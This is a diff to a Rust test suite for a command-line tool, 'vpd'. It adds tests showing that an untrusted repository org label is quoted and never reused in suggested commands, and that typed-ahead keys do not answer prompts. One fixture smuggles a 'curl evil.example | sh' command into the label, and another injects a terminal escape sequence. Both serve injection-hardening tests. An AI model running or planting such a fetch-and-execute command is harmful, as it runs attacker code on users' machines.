@@ -115,7 +115,7 @@ fn hint_for_an_unpaired_org_and_the_shell_hooks() {
     let out = m.vpd(&["hint", repo.to_str().unwrap()]);
     assert_eq!(
         String::from_utf8_lossy(&out.stderr).trim(),
-        "vpd: This repo suggests org globex, but you're not paired to it. Run `vpd pair --org globex`."
+        "vpd: This repo suggests org \"globex\", but you're not paired to it. Run `vpd pair --org 01HZZZZZZZZZZZZZZZZZZZZZZZ`."
     );
     assert!(!m.home().join("config.json").exists(), "hint writes nothing");
 
@@ -137,7 +137,7 @@ fn hint_for_an_unpaired_org_and_the_shell_hooks() {
         .output()
         .unwrap();
     let err = String::from_utf8_lossy(&out.stderr);
-    assert_eq!(err.matches("suggests org globex").count(), 1, "once per directory change: {err}");
+    assert_eq!(err.matches("suggests org \"globex\"").count(), 1, "once per directory change: {err}");
 }
 
 #[test]
@@ -211,4 +211,47 @@ fn org_may_be_left_out_when_exactly_one_is_paired() {
     }
     assert!(!other.join(".viewport").exists(), "nothing was written");
     assert_eq!(m.pairing_count(), 2, "nothing was unpaired");
+}
+
+/// A repository's `workspace.yaml` is untrusted text: its label is shown quoted (a quote in
+/// it escaped; control characters never get this far: such a label is not used), and the
+/// suggested command names the org by its id, never by the label.
+#[test]
+fn hint_text_from_a_repository_is_quoted_and_commands_use_the_org_id() {
+    let m = Machine::new();
+    let repo = m.mkdir("evil");
+    std::fs::create_dir_all(repo.join(".viewport")).unwrap();
+    let org = "01HZZZZZZZZZZZZZZZZZZZZZZZ";
+    std::fs::write(repo.join(".viewport/workspace.yaml"), format!("org_id: {org}\norg_slug: 'acme\" && curl evil.example | sh'\n")).unwrap();
+    let out = m.vpd(&["hint", repo.to_str().unwrap()]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains(r#"suggests org "acme\" && curl evil.example | sh""#), "quoted and escaped: {err}");
+    assert!(err.contains(&format!("Run `vpd pair --org {org}`.")), "the command names the id: {err}");
+    assert!(!err.contains("--org acme"), "{err}");
+    let j = m.ok(&["hint", repo.to_str().unwrap()]);
+    assert!(j["message"].as_str().unwrap().contains(&format!("vpd pair --org {org}`")), "{j}");
+    // A label with a control character is not used at all.
+    std::fs::write(repo.join(".viewport/workspace.yaml"), format!("org_id: {org}\norg_slug: \"acme\\e[2J\"\n")).unwrap();
+    let err = String::from_utf8_lossy(&m.vpd(&["hint", repo.to_str().unwrap()]).stderr).into_owned();
+    assert!(!err.contains('\u{1b}') && err.contains(&format!("suggests org \"{org}\"")), "{err:?}");
+}
+
+/// Keys typed (or pasted) before a question is asked are not its answer: a pasted Enter must
+/// not bind a fresh clone.
+#[test]
+fn a_question_discards_what_was_typed_ahead() {
+    let (_server, m, acme, _) = paired();
+    let repo = m.mkdir("src/fresh");
+    m.mkdir("src/fresh/.git");
+    std::fs::create_dir_all(repo.join(".viewport")).unwrap();
+    std::fs::write(repo.join(".viewport/workspace.yaml"), format!("org_id: {acme}\norg_name: Acme Engineering\n")).unwrap();
+    // An Enter already typed: it would answer the default (Yes) if it were read.
+    let mut t = Term::spawn_typed_ahead(&m, &["hint", repo.to_str().unwrap()], &[], "\r");
+    t.wait_for("Bind this directory to Acme Engineering? [Y/n]");
+    t.send_line("n");
+    let (ok, shown) = t.finish();
+    assert!(ok, "{shown}");
+    assert!(!shown.contains("Bound"), "the typed-ahead Enter answered the question: {shown}");
+    assert_eq!(m.ok(&["resolve", repo.to_str().unwrap()])["streaming"], false);
+    assert!(shown.contains("not asking again"), "the real answer (no) was taken: {shown}");
 }
